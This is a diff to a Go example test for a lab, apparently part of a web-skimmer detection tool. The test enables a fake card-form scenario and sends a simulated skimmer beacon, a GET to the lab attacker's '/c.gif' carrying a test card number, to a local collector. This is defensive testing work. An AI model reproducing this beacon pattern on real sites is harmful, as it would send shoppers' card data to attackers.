@@ -3,15 +3,18 @@ package lab_test
 import (
 	"context"
 	"fmt"
+	"net/http"
 	"strings"
 	"time"
 
 	"github.com/skimwatch/skimwatch/internal/lab"
 )
 
-// A test starts the lab, switches a scenario on, lets a browser check the
-// scenario's page (or run its flow), and then asks the attacker's collector
-// what really arrived.
+// A test starts the lab, switches a scenario on, lets a browser check load
+// the scenario's page (l.ShopURL()+s.Page) or run its flow (l.Flow), and
+// then asks the attacker's collector what really arrived. Here a plain
+// request stands in for the skimmer's beacon, so that the example runs
+// without Chromium and its output is fixed.
 func Example() {
 	ctx := context.Background()
 	l, err := lab.Start(ctx, lab.Options{})
@@ -20,26 +23,28 @@ func Example() {
 	}
 	defer l.Close()
 
-	for _, s := range lab.Scenarios() {
-		if s.Benign {
-			continue
-		}
-		if err := l.SetScenario(s.Name); err != nil {
-			panic(err)
-		}
-		l.Attacker().Reset()
-		target := l.ShopURL() + s.Page
-		if s.Flow != "" {
-			flowYAML, _ := l.Flow(s.Flow) // pagecheck's flow format, shop URL filled in
-			_ = flowYAML
-		}
-		_ = target // ... run the browser check here, typing honey values ...
-
-		wait, cancel := context.WithTimeout(ctx, 10*time.Second)
-		got, err := l.Attacker().WaitFor(wait, func(r lab.Received) bool {
-			return strings.Contains(r.Body, "4111") || strings.Contains(r.URL, "4111")
-		})
-		cancel()
-		fmt.Println(s.Name, got.URL, err)
+	if err := l.SetScenario("fake-card-form"); err != nil {
+		panic(err)
 	}
+	fmt.Println("scenario:", l.Scenario())
+
+	// What the skimmer would send once a honey card is typed.
+	resp, err := http.Get(l.AttackerOrigin() + "/c.gif?d=4111111111111111")
+	if err != nil {
+		panic(err)
+	}
+	resp.Body.Close()
+
+	wait, cancel := context.WithTimeout(ctx, 10*time.Second)
+	defer cancel()
+	got, err := l.Attacker().WaitFor(wait, func(r lab.Received) bool {
+		return strings.Contains(r.Body, "4111") || strings.Contains(r.URL, "4111")
+	})
+	if err != nil {
+		panic(err)
+	}
+	fmt.Println("received:", got.Method, strings.TrimPrefix(got.URL, l.AttackerOrigin()))
+	// Output:
+	// scenario: fake-card-form
+	// received: GET /c.gif?d=4111111111111111
 }
